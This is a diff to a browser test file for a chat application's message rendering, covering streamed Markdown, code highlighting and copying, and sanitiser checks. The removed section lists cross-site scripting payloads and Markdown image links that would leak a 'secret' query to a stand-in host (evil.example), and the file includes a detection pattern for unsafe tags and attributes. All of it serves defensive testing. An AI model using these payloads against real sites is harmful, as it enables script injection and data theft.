@@ -4,11 +4,11 @@ uvicorn server: login, streaming, stop, escaping, history after reload, reconnec
 from __future__ import annotations
 
 import json
+import re
 import threading
 import time
 from collections.abc import Iterator
 from contextlib import contextmanager
-from dataclasses import dataclass
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
@@ -16,6 +16,7 @@ import pytest
 
 from parley.models import Message
 from tests.conftest import Tab
+from tests.payloads import Payload, hostile_payloads
 from tests.servers import OUTPUT, Server
 
 pytestmark = [pytest.mark.browser, pytest.mark.server]
@@ -67,6 +68,11 @@ def text_of(locator: Any) -> str:
     return locator.evaluate("element => element.textContent")
 
 
+def words(text: str) -> list[str]:
+    """The words of a text, without Markdown's marks."""
+    return re.sub(r"[*#`>-]", " ", text).split()
+
+
 def send(tab: Tab, text: str) -> None:
     box = tab.page.locator("#composer-text")
     box.fill(text)
@@ -96,10 +102,14 @@ def test_answer_streams_stops_and_renders_markdown(servers, alice, private_room,
     time.sleep(1.0)
     second = text_of(body)
     assert len(second) > len(first), f"the answer did not grow: {first!r} then {second!r}"
-    assert second.startswith(first)
     expect(answer.locator(".badge")).to_have_text("Writing…")
-    # While streaming the Markdown is plain text; nothing is parsed as HTML yet.
-    assert answer.locator("strong").count() == 0
+    # The Markdown is formatted while it streams, block by block.
+    expect(body.locator("strong").first).to_have_text("bold")
+    expect(body.locator("li").first).to_have_text("one")
+    assert "**" not in text_of(body.locator("p").first)
+    # Blocks already written are never drawn again: the same elements stay, to the end.
+    written = body.evaluate_handle("body => [...body.children].slice(0, -1)")
+    assert body.evaluate("(body, kept) => kept.length", written) >= 2
     tab.shot("streaming")
 
     # A second page joining mid-answer gets the stored text plus a snapshot, then live deltas.
@@ -116,21 +126,90 @@ def test_answer_streams_stops_and_renders_markdown(servers, alice, private_room,
     expect(answer).to_have_attribute("data-status", "cancelled")
     expect(answer.locator(".badge")).to_have_text("Stopped")
     expect(stop).to_be_hidden()
-    # On done the server's sanitised HTML replaces the text: the Markdown is rendered.
     expect(answer.locator(".msg-body strong").first).to_have_text("bold")
     expect(answer.locator(".msg-body li").first).to_have_text("one")
+    # The finished answer's HTML kept every block the stream had written.
+    still = "(body, kept) => kept.filter(el => el.parentNode === body).length === kept.length"
+    assert body.evaluate(still, written)
     tab.shot("stopped")
 
     stored = Message.objects.get(room=private_room, role="assistant")
     assert stored.status == Message.Status.CANCELLED
     assert stored.text.startswith("Here is **bold**")
-    # Every text either page showed while streaming was a prefix of the final answer: no
-    # delta was lost, doubled or misplaced.
-    for seen in (first, second, joined):
-        assert stored.text.startswith(seen)
+    # Every text either page showed while streaming was the start of the final answer (its
+    # last word maybe cut, and with Markdown's marks maybe not yet formatted): no delta was
+    # lost, doubled or misplaced.
+    final = words(text_of(body))
+    for seen in map(words, (first, second, joined)):
+        assert final[: len(seen) - 1] == seen[:-1]
     expect(late.locator(".msg-assistant")).to_have_attribute("data-status", "cancelled")
     assert late.locator(".msg-assistant .msg-body").inner_html() == body.inner_html()
     assert tab.dialogs == []
+    assert tab.errors == []
+
+
+CODE = 'def greet(name):\n    return f"Hello, {name}"  # a comment\n'
+WIDE = (
+    "| setting | default | environment variable | what it does |\n|---|---|---|---|\n"
+    "| parley.E001 | none | PARLEY_BACKEND | names the assistant backend by dotted path |\n"
+)
+CODE_AND_TABLE = {
+    "BACKEND": "parley.backends.scripted.ScriptedBackend",
+    # (The reply is a str.format template: the code's braces are doubled.)
+    "OPTIONS": {
+        "reply": "Run this:\n\n```python\n"
+        + CODE.replace("{", "{{").replace("}", "}}")
+        + f"```\n\n{WIDE}\nDone.",
+        "delay": 0.01,
+    },
+}
+
+
+def test_code_is_highlighted_and_copied_and_wide_tables_scroll(
+    servers, alice, private_room, new_tab
+):
+    """On a phone-sized page: the code block is coloured by its language, has a bar with
+    the language and a copy button that copies the code exactly; the answer copies as its
+    Markdown; a table wider than the page scrolls inside the answer, and no word in it is
+    broken in the middle."""
+    from playwright.sync_api import expect
+
+    server = servers(env=backend_env(CODE_AND_TABLE), name="browser-code")
+    tab = new_tab()
+    page = tab.page
+    page.set_viewport_size({"width": 420, "height": 800})
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.http_url)
+    log_in(tab, server, "alice")
+    open_room(tab, private_room)
+    send(tab, "How do I greet?")
+    answer = page.locator(".msg-assistant[data-status=complete]")
+    expect(answer).to_have_count(1)
+
+    block = answer.locator(".code-block")
+    expect(block.locator(".code-language")).to_have_text("python")
+    keyword = block.locator("pre span.k").first
+    expect(keyword).to_have_text("def")
+    colour = "el => getComputedStyle(el).color"
+    assert keyword.evaluate(colour) != block.locator("pre").evaluate(colour)
+    assert block.locator("pre .c1").evaluate("el => getComputedStyle(el).fontStyle") == "italic"
+    clipboard = "() => navigator.clipboard.readText()"
+    copy = block.get_by_role("button", name="Copy code")
+    copy.click()
+    expect(copy).to_have_text("Copied")
+    assert page.evaluate(clipboard) == CODE
+    answer.get_by_role("button", name="Copy answer").click()
+    stored = Message.objects.get(room=private_room, role="assistant")
+    assert page.evaluate(clipboard) == stored.text
+
+    scroller = answer.locator(".table-scroll")
+    assert scroller.evaluate("el => el.scrollWidth > el.clientWidth"), "the table does not scroll"
+    assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
+    lines = """cell => { const range = document.createRange(); range.selectNodeContents(cell);
+        return new Set([...range.getClientRects()].map(r => Math.round(r.top))).size; }"""
+    assert answer.locator("td", has_text="parley.E001").evaluate(lines) == 1
+    tab.shot("code-and-table")
+    scroller.evaluate("el => el.scrollBy(400, 0)")
+    tab.shot("code-and-table-scrolled")
     assert tab.errors == []
 
 
@@ -417,117 +496,6 @@ def test_the_offline_assistant_answers_from_the_docs_with_a_source_link(
 
 # Hostile payloads ------------------------------------------------------------------------
 
-PWN = "pwned=1;alert(1)"  # what each script payload would do: set a global, open a dialog
-LEAK = "http://evil.example"  # a foreign host; the browser must never ask it for anything
-
-
-@dataclass(frozen=True)
-class Payload:
-    """A message ``text`` sent by a user and echoed by the assistant, and ``shown``: what the
-    assistant's rendered Markdown must still show of it (the user's copy shows it all)."""
-
-    name: str
-    text: str
-    shown: str
-
-
-def hostile_payloads(evil: str) -> list[Payload]:
-    """Payloads that run script, leave the page or fetch from another host (``evil``, a
-    loopback server of the test's, or ``evil.example``) if rendered as HTML."""
-
-    def raw(name: str, text: str) -> Payload:  # raw HTML: the assistant shows it as text
-        return Payload(name, text, text)
-
-    return [
-        raw("script tag", f"<script>{PWN}</script>"),
-        raw("img onerror", f"<img src=x onerror={PWN}>"),
-        raw("svg onload", f"<svg onload={PWN}>"),
-        raw("svg image", f'<svg><image href="{evil}/svg-image"/></svg>'),
-        raw("event handler", f'<div onmouseover="{PWN}">hover me</div>'),
-        raw("details ontoggle", f"<details open ontoggle={PWN}>"),
-        raw("autofocus onfocus", f"<input autofocus onfocus={PWN}>"),
-        raw("body onload", f"<body onload={PWN}>"),
-        raw("attribute breakout", f'"><script>{PWN}</script>'),
-        raw("mutation XSS", f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>"),
-        raw("noscript breakout", f'<noscript><p title="</noscript><img src=x onerror={PWN}>">'),
-        raw("html javascript link", f'<a href="javascript:{PWN}">click</a>'),
-        raw("iframe", f'<iframe src="{evil}/iframe"></iframe>'),
-        raw("iframe srcdoc", f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>'),
-        raw("meta refresh", f'<meta http-equiv="refresh" content="0;url={evil}/refresh">'),
-        raw("base href", f'<base href="{evil}/">'),
-        raw("link stylesheet", f'<link rel="stylesheet" href="{evil}/link.css">'),
-        raw("style import", f'<style>@import url("{evil}/import.css");</style>'),
-        raw("css url()", f'<div style="background:url({evil}/css-url?q=secret)">x</div>'),
-        raw(
-            "object and embed", f'<object data="{evil}/object"></object><embed src="{evil}/embed">'
-        ),
-        raw("raw img", f'<img src="{evil}/raw-image?q=secret">'),
-        raw("raw img, foreign host", f'<img src="{LEAK}/raw-image?q=secret">'),
-        raw("picture srcset", f'<picture><source srcset="{evil}/srcset"><img alt=x></picture>'),
-        raw("video poster", f'<video poster="{evil}/poster" src="{evil}/video" autoplay></video>'),
-        raw("form", f'<form action="{evil}/form"><button formaction="javascript:{PWN}">go'),
-        raw("md javascript link", f"[click me](javascript:{PWN})"),
-        raw("md javascript link, mixed case", f"[click me](JaVaScRiPt:{PWN})"),
-        raw("md javascript link, angle brackets", f"[click me](<javascript:{PWN}>)"),
-        Payload(
-            "md javascript link, entity",
-            f"[click me](javascript&#58;{PWN})",
-            f"[click me](javascript:{PWN})",
-        ),
-        raw(
-            "md data link", "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
-        ),
-        raw("javascript autolink", f"<javascript:{PWN}>"),
-        raw(
-            "md svg data image",
-            "![vector](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAw"
-            "MC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)",
-        ),
-        Payload(
-            "md image, foreign host", f"![secret chart]({LEAK}/leak.png?q=secret)", "secret chart"
-        ),
-        Payload("md image", f"![secret chart]({evil}/md-image?q=secret)", "secret chart"),
-        Payload(
-            "md reference image",
-            f"![secret chart][chart]\n\n[chart]: {evil}/ref-image?q=secret",
-            "secret chart",
-        ),
-        Payload(
-            "md shortcut reference image",
-            f"![chart]\n\n[chart]: {LEAK}/shortcut.png?q=secret",
-            "chart",
-        ),
-        Payload(
-            "md image without alt",
-            f"![]({evil}/no-alt.png?q=secret)",
-            f"{evil}/no-alt.png?q=secret",
-        ),
-        Payload(
-            "md image in a link",
-            f"[![secret chart]({evil}/nested.png?q=secret)]({evil}/nested)",
-            "secret chart",
-        ),
-        Payload(
-            "md data image",
-            "![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4"
-            "2mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
-            "pixel",
-        ),
-        Payload("autolink", f"<{evil}/autolink?q=secret>", f"{evil}/autolink?q=secret"),
-        Payload(
-            "md link, title breakout", f'[titled]({evil}/t "\\" onmouseover=\\"{PWN}")', "titled"
-        ),
-        Payload("md link, href breakout", f'[quoted]({evil}/"onmouseover="{PWN})', "quoted"),
-        Payload("md protocol-relative link", "[docs](//evil.example/?q=secret)", "docs"),
-        Payload("code fence", f"```html\n<script>{PWN}</script>\n```", f"<script>{PWN}</script>"),
-        Payload(
-            "table cell",
-            f"| a |\n| --- |\n| <img src=x onerror={PWN}> |",
-            f"<img src=x onerror={PWN}>",
-        ),
-        Payload("heading", f"# <script>{PWN}</script>", f"<script>{PWN}</script>"),
-    ]
-
 
 class EvilServer:
     """An HTTP server on another loopback port, standing for a foreign host: it notes every
@@ -603,7 +571,10 @@ UNSAFE_DOM = """list => {
     const found = [];
     const banned = "script,img,svg,iframe,frame,object,embed,meta,link,style,base,form,input,"
         + "button,video,audio,source,picture,math,details,body,noscript,image,textarea,select";
-    for (const el of list.querySelectorAll(banned)) found.push(`<${el.localName}>`);
+    // Parley's own controls (a code block's copy button): no answer can make one, as no
+    // class but highlighting's survives the sanitiser.
+    const own = (el) => el.closest(".code-bar, .msg-meta");
+    for (const el of list.querySelectorAll(banned)) if (!own(el)) found.push(`<${el.localName}>`);
     for (const el of list.querySelectorAll("*")) {
         for (const attr of el.attributes) {
             const unsafe = /^on|^(src|srcset|srcdoc|style|action|formaction|poster|background)$/i;
@@ -645,15 +616,39 @@ ECHO = {
 }
 
 
+# Every change to the message list is checked as it happens, not only the final page: a
+# streaming answer's blocks replace each other many times before the answer ends.
+WATCH_UNSAFE = f"""list => {{
+    const check = {UNSAFE_DOM};
+    window.parleyUnsafe = [];
+    const watch = () => window.parleyUnsafe.push(...check(list));
+    const changes = {{ subtree: true, childList: true, attributes: true }};
+    new MutationObserver(watch).observe(list, changes);
+}}"""
+
+# The echo, one character per delta, each delta rendered: a payload is sent cut at every
+# position (tests/test_rendering.py checks each cut's HTML without a browser).
+ECHO_STREAMED = {
+    **ECHO,
+    "OPTIONS": {**ECHO["OPTIONS"], "pieces": "characters", "delay": 0.004},
+}
+STREAMED_OPTIONS = {"STREAM_FLUSH_INTERVAL": 0.002, "STREAM_RENDER_INTERVAL": 0}
+
+
+@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "a character per delta"])
 def test_hostile_payloads_stay_text_run_nothing_and_reach_no_other_host(
-    servers, alice, bob, shared_room, new_tab, evil_server
+    servers, alice, bob, shared_room, new_tab, evil_server, streamed
 ):
     """Alice sends each payload to the shared room and the assistant says it back (rendered
     as Markdown): on her page, on Bob's (live) and on hers reloaded (history), no script
-    runs, no request leaves for another host, and the text is all still there."""
+    runs, no request leaves for another host, and the text is all still there; streamed,
+    at no moment of the stream either."""
     from playwright.sync_api import expect
 
-    server = servers(env=backend_env(ECHO), name="browser-payloads")
+    env = backend_env(ECHO_STREAMED if streamed else ECHO)
+    if streamed:
+        env["PARLEY_TEST_OPTIONS"] = json.dumps(STREAMED_OPTIONS)
+    server = servers(env=env, name="browser-payloads")
     payloads = hostile_payloads(evil_server.url)
     tab, watcher = new_tab(), new_tab()
     foreign = [record_foreign_requests(t, server, evil_server) for t in (tab, watcher)]
@@ -674,12 +669,16 @@ def test_hostile_payloads_stay_text_run_nothing_and_reach_no_other_host(
     open_room(tab, shared_room)
     log_in(watcher, server, "bob")
     open_room(watcher, shared_room)
+    for page in (tab.page, watcher.page):
+        page.locator("#messages").evaluate(WATCH_UNSAFE)
     expect(tab.page.get_by_label("Ask the assistant")).to_be_checked()
     done = tab.page.locator(".msg-assistant[data-status=complete]")
     for count, payload in enumerate(payloads, start=1):
         send(tab, payload.text)
         expect(done, f"the answer to {payload.name!r}").to_have_count(count)
-    tab.shot("payloads")
+    tab.shot("payloads-streamed" if streamed else "payloads")
+    for page in (tab.page, watcher.page):
+        assert page.evaluate("() => window.parleyUnsafe") == []
 
     room_url = tab.page.url
     assert_payloads_harmless(tab, payloads, room_url)
